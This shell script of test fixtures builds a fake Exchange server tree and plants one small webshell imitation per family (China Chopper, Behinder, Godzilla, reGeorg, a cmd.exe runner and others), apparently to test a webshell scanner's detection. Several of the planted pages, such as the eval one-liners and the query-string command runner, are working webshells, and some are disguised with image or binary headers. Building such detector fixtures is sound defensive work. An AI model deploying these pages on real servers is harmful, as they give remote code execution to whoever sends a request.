# Builds Exchange-like lab trees for the walk tests (sourced).  Every page
# here is written for these tests: each imitates what one webshell family
# must do to work, in as few lines as possible.  No sample is copied.

EX="Program Files/Microsoft/Exchange Server/V15"
TEMP_ASPNET="Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files"

# lab_clean DIR: a clean Exchange-like layout with benign pages, DLLs and logs.
lab_clean() {
	local r=$1
	mkdir -p "$r/inetpub/wwwroot/aspnet_client/system_web/4_0_30319" \
		"$r/inetpub/logs/LogFiles/W3SVC1" \
		"$r/$EX/FrontEnd/HttpProxy/owa/auth/Current/themes/resources" \
		"$r/$EX/FrontEnd/HttpProxy/ecp/auth" \
		"$r/$EX/FrontEnd/HttpProxy/OAB" \
		"$r/$EX/ClientAccess/Owa/bin" \
		"$r/$EX/ClientAccess/ecp" \
		"$r/$EX/Bin" \
		"$r/$EX/Logging/HttpProxy/Owa" \
		"$r/$TEMP_ASPNET/root/1a2b3c4d/5e6f7a8b" \
		"$r/ProgramData/Microsoft" \
		"$r/Windows/System32/inetsrv/config"
	cat >"$r/$EX/FrontEnd/HttpProxy/owa/auth/logon.aspx" <<'P'
<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>
<html><head><title>Outlook</title></head>
<body><form id="logonForm" method="post" action="/owa/auth.owa">
<input id="username" name="username" type="text"/><input id="password" name="password" type="password"/>
</form></body></html>
P
	printf '<%%@ Page Language="C#" Inherits="Microsoft.Exchange.HttpProxy.ErrorFE" %%>\n<html><body>error</body></html>\n' \
		>"$r/$EX/FrontEnd/HttpProxy/owa/auth/errorFE.aspx"
	printf '<%%@ Page Language="C#" Inherits="Microsoft.Exchange.Management.ControlPanel.TimeoutLogout" %%>\n' \
		>"$r/$EX/FrontEnd/HttpProxy/ecp/auth/TimeoutLogout.aspx"
	printf 'body { font-family: "Segoe UI"; }\n' >"$r/$EX/FrontEnd/HttpProxy/owa/auth/Current/themes/resources/logon.css"
	printf '<?xml version="1.0"?>\n<configuration><system.web><compilation debug="false"/></system.web></configuration>\n' \
		>"$r/$EX/ClientAccess/ecp/web.config"
	for i in 1 2 3 4 5; do
		{ printf 'MZ\x90\x00'; head -c 20000 /dev/urandom; } >"$r/$EX/Bin/Microsoft.Exchange.Lab$i.dll"
	done
	{ printf 'MZ\x90\x00'; head -c 30000 /dev/urandom; } >"$r/$EX/ClientAccess/Owa/bin/Microsoft.Exchange.Clients.Owa2.dll"
	printf '#Fields: DateTime,RequestId,AnchorMailbox\n2026-01-01T00:00:00Z,1,user@lab\n' \
		>"$r/$EX/Logging/HttpProxy/Owa/HttpProxy_2026010100-1.LOG"
	printf '#Fields: date time s-ip cs-method cs-uri-stem\n2026-01-01 00:00:00 10.0.0.1 GET /owa/\n' \
		>"$r/inetpub/logs/LogFiles/W3SVC1/u_ex260101.log"
	printf '<configuration><system.applicationHost/></configuration>\n' \
		>"$r/Windows/System32/inetsrv/config/applicationHost.config"
	printf 'notes\n' >"$r/ProgramData/Microsoft/readme.txt"
}

# plant_families DIR: one page per family at places attackers used.
# Prints "relpath<TAB>family" lines to DIR.expect.
plant_families() {
	local r=$1 ac="inetpub/wwwroot/aspnet_client/system_web"
	local auth="$EX/FrontEnd/HttpProxy/owa/auth"
	: >"$r.expect"
	exp() { printf '%s\t%s\n' "$1" "$2" >>"$r.expect"; }

	printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["lab"],"unsafe");%%>\n' \
		>"$r/$ac/chopper.aspx"
	exp "$ac/chopper.aspx" "China Chopper"

	printf 'GIF89a\n<%%@ Page Language="Jscript"%%><%%eval(Request.Item["q"],"unsafe");%%>\n' \
		>"$r/$auth/Current/themes/resources/gif.aspx"
	exp "$auth/Current/themes/resources/gif.aspx" "China Chopper"

	cat >"$r/$EX/FrontEnd/HttpProxy/OAB/oabconfig.aspx" <<'P'
Name                            : OAB (Default Web Site)
InternalUrl                     : https://mail.lab.example/OAB
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["lab"],"unsafe");}</script>
InternalAuthenticationMethods   : {WindowsIntegrated}
ExtendedProtectionTokenChecking : None
OfflineAddressBooks             : {}
P
	exp "$EX/FrontEnd/HttpProxy/OAB/oabconfig.aspx" "OAB ExternalUrl injection"

	{ printf '!BDN\x8e\x1f\x00\x00\x53\x4d\x00\x00'; head -c 600 /dev/zero
	  printf '<script language="JScript" runat="server">function Page_Load(){eval(Request["c"],"unsafe");}</script>'
	  head -c 300 /dev/zero; } >"$r/$ac/export.aspx"
	exp "$ac/export.aspx" "ProxyShell PST export"

	{ printf '\x30\x82\x04\x1a\x30\x82\x03\x02\xa0\x03'
	  printf '<script language="JScript" runat="server">function Page_Load(){eval(Request["c"],"unsafe");}</script>'; } \
		>"$r/$auth/req.aspx"
	exp "$auth/req.aspx" "ProxyShell certificate request"

	{ printf '\x01\x02\x03\x04\x05\x06\x07\x08'
	  printf '<%%@ Page Language="C#"%%><%%=System.DateTime.Now%%>\n'; } >"$r/$ac/bin.aspx"
	exp "$ac/bin.aspx" "binary-headed dropper"

	cat >"$r/$ac/spy.aspx" <<'P'
<%@ Page Language="C#" %>
<script runat="server">
/* ASPXSpy lab imitation */
protected void Bin_Button_Login_Click(object s, EventArgs e) { }
</script>
<html><title>ASPXSpy lab</title></html>
P
	exp "$ac/spy.aspx" "ASPXSpy"

	cat >"$r/$auth/sharpy.aspx" <<'P'
<%@ Page Language="C#" %><%@ Import Namespace="System.CodeDom.Compiler" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
	var p = new Microsoft.CSharp.CSharpCodeProvider();
	var o = new CompilerParameters(); o.GenerateInMemory = true;
	var r = p.CompileAssemblyFromSource(o, Request.Form["data"]);
}
</script>
P
	exp "$auth/sharpy.aspx" "SharPyShell"

	cat >"$r/$ac/tunnel.ashx" <<'P'
<%@ WebHandler Language="C#" Class="T" %>
using System.Web; using System.Net.Sockets;
public class T : IHttpHandler {
	public void ProcessRequest(HttpContext c) {
		string cmd = c.Request.Headers["X-CMD"];
		if (cmd == "CONNECT") { var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); s.Connect("10.0.0.1", 445); c.Response.AddHeader("X-STATUS", "OK"); }
		else if (cmd == "FORWARD") { byte[] b = new byte[4096]; c.Request.InputStream.Read(b, 0, b.Length); }
		else if (cmd == "DISCONNECT") { }
	}
	public bool IsReusable { get { return false; } }
}
P
	exp "$ac/tunnel.ashx" "reGeorg"

	cat >"$r/$auth/behind.aspx" <<'P'
<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%Session.Add("k","0123456789abcdef");byte[] k=Encoding.Default.GetBytes(Session[0]+""),c=Request.BinaryRead(Request.ContentLength);Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k,k).TransformFinalBlock(c,0,c.Length)).CreateInstance("U").Equals(this);%>
P
	exp "$auth/behind.aspx" "Behinder"

	cat >"$r/$ac/gz.asmx" <<'P'
<%@ WebService Language="C#" Class="G" %>
public class G : System.Web.Services.WebService {
	[System.Web.Services.WebMethod(EnableSession = true)]
	public string Q(string pass) {
		byte[] d = System.Convert.FromBase64String(Context.Request["pass"]);
		if (Session["payload"] == null) { Session["payload"] = typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { d }); }
		object o = ((System.Reflection.Assembly)Session["payload"]).CreateInstance("LY");
		return new System.Security.Cryptography.MD5CryptoServiceProvider().ToString();
	}
}
P
	exp "$ac/gz.asmx" "Godzilla"

	printf '<%%@ Page Language="Jscript"%%><%%var x=Request.Item["ant"];eval(x,"unsafe");%%>\n' >"$r/$ac/ant.aspx"
	exp "$ac/ant.aspx" "China Chopper"

	cat >"$r/$EX/ClientAccess/ecp/cmdrun.aspx" <<'P'
<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
	var i = new ProcessStartInfo("cmd.exe", "/c " + Request.QueryString["c"]);
	i.RedirectStandardOutput = true; i.UseShellExecute = false;
	Response.Write(Process.Start(i).StandardOutput.ReadToEnd());
}
</script>
P
	exp "$EX/ClientAccess/ecp/cmdrun.aspx" "generic command shell"

	cat >"$r/$auth/loader.aspx" <<'P'
<%@ Page Language="C#" %><%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr s, uint t, uint p);
[DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr a, UIntPtr s, IntPtr f, IntPtr p, uint c, IntPtr i);
void Page_Load(object s, EventArgs e) { byte[] code = new byte[] { 0x90, 0x90, 0xc3 }; }
</script>
P
	exp "$auth/loader.aspx" "shellcode loader"

	cat >"$r/$ac/ps.aspx" <<'P'
<%@ Page Language="C#" %><%@ Import Namespace="System.Management.Automation.Runspaces" %>
<script runat="server">
void Run(object s, EventArgs e) { var rs = RunspaceFactory.CreateRunspace(); rs.Open();
	var p = rs.CreatePipeline(); p.Commands.AddScript(cmd.Text); p.Invoke(); }
</script>
P
	exp "$ac/ps.aspx" "generic command shell"

	{ printf 'MZ\x90\x00\x03\x00\x00\x00'; head -c 3000 /dev/zero
	  printf 'App_Web_lab1x2y3z\x00get_Request\x00JScriptEvaluate\x00Microsoft.JScript\x00'
	  printf '/\x00a\x00s\x00p\x00n\x00e\x00t\x00_\x00c\x00l\x00i\x00e\x00n\x00t\x00/\x00x\x00.\x00a\x00s\x00p\x00x\x00'
	  head -c 2000 /dev/zero; } >"$r/$TEMP_ASPNET/root/1a2b3c4d/5e6f7a8b/App_Web_lab1x2y3z.dll"
	exp "$TEMP_ASPNET/root/1a2b3c4d/5e6f7a8b/App_Web_lab1x2y3z.dll" "compiled webshell"
}
